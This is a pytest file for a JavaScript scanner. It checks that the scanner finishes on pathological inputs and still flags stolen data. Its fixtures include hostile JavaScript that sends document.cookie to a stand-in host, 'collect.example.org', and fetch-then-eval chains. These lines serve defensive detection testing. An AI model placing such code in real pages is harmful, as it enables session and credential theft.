"""Whatever is given to the scanner, it ends in facts, soon; and what was not read to its end says so."""

import random
import time
from collections.abc import Callable, Mapping

import pytest

from qirvo.analysis.facts import Unanalysed
from qirvo.analysis.javascript import LARGEST_BYTES, read_facts

MIB = 1024 * 1024
MOST_CPU_S = 180.0  # far above any noise of a machine; what it guards against takes hours
"""The parser's share, the reader's, and what the parser does between two looks at the clock."""
NASTY: Mapping[str, Callable[[], bytes]] = {
    "one line of ten megabytes": lambda: b"var a=1;" * (10 * MIB // 8),
    "calls in calls": lambda: b"a(" * (MIB // 2),
    "calls of eval in calls of eval": lambda: b"eval(" * (MIB // 5),
    "parentheses": lambda: b"(" * MIB,
    "brackets": lambda: b"[" * MIB,
    "a sum of many texts": lambda: b"x=" + b"'a'+" * (MIB // 4) + b"'b'",
    "a chain of many members": lambda: b"process" + b".a" * (MIB // 2),
    "callbacks in callbacks": lambda: b"fetch(u).then(r=>" * 20_000 + b"eval(r)" + b")" * 20_000,
    "patterns in patterns": lambda: b"const " + b"{a:" * 50_000 + b"b" + b"}" * 50_000 + b"=process;",
    "templates in templates": lambda: b"`${" * (MIB // 3),
    "quotes": lambda: b'"' * MIB,
    "random bytes": lambda: random.Random(1).randbytes(MIB),  # noqa: S311  # no secret
    "NUL": lambda: b"\0" * MIB,
    "no UTF-8": lambda: b"var a='" + b"\xff\xfe" * (MIB // 2) + b"'",
    "regular expressions without end": lambda: b"a=/[" * (MIB // 4),
    "a thousand flows": lambda: b"const c=document.cookie;" + b'x(c);fetch("//a"+c);' * 50_000,
}
HARM = b"const c=document.cookie;fetch('https://collect.example.org/?'+c);eval(y);"


@pytest.mark.parametrize("name", NASTY)
def test_nasty_input_ends_in_facts_soon(name: str) -> None:
    content = NASTY[name]()
    started = time.thread_time()
    read_facts("a.js", content)
    assert time.thread_time() - started < MOST_CPU_S


@pytest.mark.parametrize(
    "before", [b"process.a(b);" * 7_000, b"c;" * 300, b"x(document.cookie);\n" * 1_700, b"/* \xff */", b"\xef\xbb\xbf"]
)
def test_harmless_code_before_it_does_not_hide_what_is_stolen(before: bytes) -> None:
    facts = read_facts("a.js", before + HARM)
    assert "cookie->network" in {fact.detail for fact in facts.facts}


def test_what_is_larger_than_the_limit_says_so() -> None:
    assert read_facts("a.js", b" " * LARGEST_BYTES + HARM).unanalysed is Unanalysed.TOO_LARGE


def test_what_was_cut_says_so() -> None:
    assert read_facts("a.js", NASTY["callbacks in callbacks"]()).unanalysed is Unanalysed.TOO_SLOW


def test_what_was_found_before_time_ran_out_is_kept() -> None:
    facts = read_facts("a.js", b"import 'left-pad';" + NASTY["callbacks in callbacks"]())
    assert [each.module for each in facts.imports] == ["left-pad"]


def test_flows_that_were_not_all_followed_say_so() -> None:
    assert read_facts("a.js", b"x(document.cookie);" * 1_700 + HARM).unanalysed is Unanalysed.TOO_SLOW


def test_sums_of_many_texts_are_read_to_their_end() -> None:
    sums = (b"f(" + b"+".join([b"'a text that is long enough'"] * 35) + b");\n") * 2_000
    assert read_facts("a.js", sums).unanalysed is None
